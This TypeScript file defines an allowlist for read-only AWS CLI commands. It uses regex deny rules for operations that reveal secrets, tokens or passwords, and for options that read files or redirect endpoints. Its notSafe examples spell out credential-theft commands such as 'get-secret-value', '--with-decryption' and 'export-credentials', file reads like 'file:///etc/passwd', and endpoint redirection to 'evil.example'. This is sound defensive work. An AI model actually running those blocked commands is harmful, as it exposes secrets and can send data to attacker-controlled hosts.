import type { Tool } from "./tool.ts";

/** Operations that show a secret, or hand out a login or a signed address. */
const GIVES_ACCESS =
  "(get|batch-get|describe)-(.*(secret-value|token|credential(?!-report)|password(?!-policy)|login(?!-profile)|signed|-url|stream-key|api-key|access-details|access-keys$|decrypted)|" +
  "password-data|vpn-connections$|user-pool-client$|usage-plan-keys?$|backend-auth$)|^location describe-key$|list-(api-keys$|.*client-secrets|.*tokens$)";

/** Operations whose answer is a stream, which is written to the file that an operand names. */
const WRITES_FILE =
  "^(s3api get-object(-torrent)?$|mediastore-data |appconfig get-(configuration|hosted-configuration-version)$|appconfigdata |apigateway get-(export|sdk)$|" +
  "cloudfront get-(connection-)?function$|schemas get-code-binding-source$|medialive describe-input-device-thumbnail$|kinesis-video-|geo-maps |location get-map-|medical-imaging get-image-|" +
  "appsync get-introspection-schema$|glacier get-job-output$|datazone get-lineage-event$|codeartifact get-package-version-asset$|iotwireless get-(position-estimate|resource-position)$|" +
  "codeguruprofiler get-profile$|workmailmessageflow |omics get-(read-set|reference)$|ebs get-snapshot-block$|tnb get-sol-|sagemaker-geospatial get-tile$|iot-data |" +
  "lakeformation get-work-unit-results$|gamelift get-game-session-log$)";

/**
 * Options of the tool itself: those that read files, go to another machine or decrypt, abbreviated or not. A value with such an
 * address is fetched from there or read from the file, whatever the option. Queues are named by their address.
 */
const REFUSED =
  "^--(cli-i|cli-a|endp|debug|ca(-b.*)?$|no-v|save-as|outf|priv|w(i(th?.*)?)?$|include-v)|file(b)?://|https?://(?!(sqs|queue)\\.[\\w.-]*amazonaws\\.com/)";

const read = { operands: "text", service: true, refuses: REFUSED } as const;

export const AWS_TOOLS: readonly Tool[] = [
  {
    names: ["aws"],
    // Not --endpoint-url, --ca-bundle, --no-verify-ssl, --debug.
    options:
      "--region: --profile: --output: --query: --no-cli-pager --no-paginate --no-sign-request --color: --cli-read-timeout# --cli-connect-timeout# --no-cli-auto-prompt --version",
    operands: "none",
    optionsAnywhere: true,
    uses: [
      {
        // All other options are what the operation asks for.
        commands: [
          "* describe-*",
          "* list-*",
          "* get-*",
          "* batch-get-*",
          "* batch-describe-*",
          "* head-*",
          "* search-*",
        ],
        except: `${GIVES_ACCESS}|${WRITES_FILE}`,
        options: "--*",
        ...read,
      },
      {
        commands: [
          ...[
            "sqs get-queue-url",
            "lambda get-function-url-config",
            "dynamodb query",
            "dynamodb scan",
            "logs filter-log-events",
          ],
          ...[
            "cloudtrail lookup-events",
            "iam simulate-principal-policy",
            "iam simulate-custom-policy",
            "resource-explorer-2 search",
          ],
          ...[
            "accessanalyzer validate-policy",
            "cloudformation validate-template",
            "cloudformation estimate-template-cost",
          ],
          ...["route53 test-dns-answer", "pricing get-products", "sts decode-authorization-message", "* wait *"],
        ],
        options: "--*",
        ...read,
      },
      {
        commands: ["logs tail"],
        options: "--since: --follow --format: --filter-pattern: --log-stream-names: --log-stream-name-prefix:",
        ...read,
      },
      {
        commands: ["s3 ls"],
        options:
          "--recursive --human-readable --summarize --page-size# --request-payer? --bucket-name-prefix: --bucket-region:",
        ...read,
        operandForm: "^(s3://)?[a-zA-Z0-9]",
      },
      { commands: ["help", "* help"], options: "", operands: "none", runs: ["groff", "less"], reliesOnJail: "data" },
      // Shows the ends of the keys only.
      { commands: ["configure list"], options: "", ...read, operands: "none" },
    ],
    examples: {
      safe: [
        "aws s3 ls s3://my-bucket/logs/",
        "aws s3 ls",
        "aws s3 ls my-bucket --recursive --human-readable --summarize",
        "aws ec2 describe-instances --region eu-west-1",
        "aws ec2 describe-instances --filters Name=tag:Name,Values=web Name=instance-state-name,Values=running --query 'Reservations[].Instances[].InstanceId' --output text",
        "aws --profile dev --region us-east-1 ec2 describe-vpcs",
        "aws ec2 describe-instances --generate-cli-skeleton",
        "aws ec2 describe-key-pairs",
        "aws ec2 get-console-output --instance-id i-0abc",
        "aws ec2 wait instance-running --instance-ids i-0abc",
        "aws sts get-caller-identity",
        "aws iam list-users --no-cli-pager",
        "aws iam get-role --role-name app",
        "aws iam list-access-keys",
        "aws iam get-account-password-policy",
        "aws s3api list-buckets --query 'Buckets[].Name'",
        "aws s3api head-object --bucket b --key k",
        "aws s3api get-bucket-policy --bucket b",
        "aws s3api get-object-tagging --bucket b --key k",
        "aws lambda list-functions --max-items 10",
        "aws lambda get-function-configuration --function-name f",
        "aws logs describe-log-groups",
        "aws logs tail /aws/lambda/f --since 1h --follow",
        "aws logs filter-log-events --log-group-name g --filter-pattern ERROR",
        "aws ecs describe-services --cluster c --services web",
        "aws eks list-clusters",
        "aws eks describe-cluster --name dev",
        "aws rds describe-db-instances",
        "aws cloudformation describe-stacks --stack-name web",
        "aws cloudwatch get-metric-statistics --namespace AWS/EC2 --metric-name CPUUtilization --start-time 2024-01-01T00:00:00Z --end-time 2024-01-02T00:00:00Z --period 300 --statistics Average",
        'aws dynamodb get-item --table-name t --key \'{"id":{"S":"1"}}\'',
        "aws dynamodb scan --table-name t --max-items 5",
        "aws sqs get-queue-attributes --queue-url https://sqs.us-east-1.amazonaws.com/1/q --attribute-names All",
        "aws configure list",
        "aws configure list-profiles",
        "aws kms list-keys",
        "aws ssm describe-parameters",
        "aws --version",
        "aws ec2 help",
      ],
      notSafe: [
        "aws s3 cp report.csv s3://bucket/",
        "aws s3 rm s3://bucket/x",
        "aws s3 sync . s3://bucket",
        "aws s3 presign s3://b/k",
        "aws s3 ls --endpoint-url https://evil.example",
        "aws s3api get-object --bucket b --key k out.bin",
        "aws s3api put-object --bucket b --key k",
        "aws ec2 terminate-instances --instance-ids i-0",
        "aws ec2 run-instances --image-id x",
        "aws ec2 describe-instances --endpoint-url https://evil.example",
        "aws ec2 describe-instances --endp https://evil.example",
        "aws ec2 describe-instances --filters file:///etc/passwd",
        "aws ec2 describe-instances --cli-input-json file://x.json",
        "aws ec2 describe-instances --cli-input-json '{}'",
        "aws ec2 describe-instances --debug",
        "aws ec2 describe-instances --filters https://evil.example/x",
        "aws ec2 describe-instances --instance-ids $x",
        "aws ec2 get-password-data --instance-id i-0",
        "aws --endpoint-url https://evil.example s3 ls",
        "aws --no-verify-ssl s3 ls",
        "aws ec2 describe-instances --no-v",
        "aws s3 rm help",
        "aws secretsmanager get-secret-value --secret-id x",
        "aws secretsmanager batch-get-secret-value",
        "aws ssm get-parameter --name x --with-decryption",
        "aws ssm get-parameters-by-path --path / --with-dec",
        "aws ssm get-parameters-by-path --path / --w",
        "aws sts get-session-token",
        "aws sts get-federation-token --name x",
        "aws sts assume-role --role-arn x",
        "aws ecr get-login-password",
        "aws ecr get-authorization-token",
        "aws eks get-token --cluster-name x",
        "aws eks update-kubeconfig --name x",
        "aws codeartifact get-authorization-token --domain x",
        "aws kms decrypt --ciphertext-blob x",
        "aws lambda invoke --function-name f out.json",
        "aws lambda update-function-code --function-name f",
        "aws apigateway get-api-keys --include-values",
        "aws apigateway get-export --rest-api-id x out.json",
        "aws iot-data get-thing-shadow --thing-name x out.json",
        "aws cognito-idp describe-user-pool-client --client-id x",
        "aws sqs receive-message --queue-url https://sqs.us-east-1.amazonaws.com/1/q",
        "aws sqs get-queue-attributes --queue-url https://evil.example/1/q",
        "aws configure get aws_secret_access_key",
        "aws configure set region x",
        "aws configure export-credentials",
        "aws sso login",
        "aws ssm start-session --target i-0",
        "aws $x describe-instances",
      ],
    },
  },
];
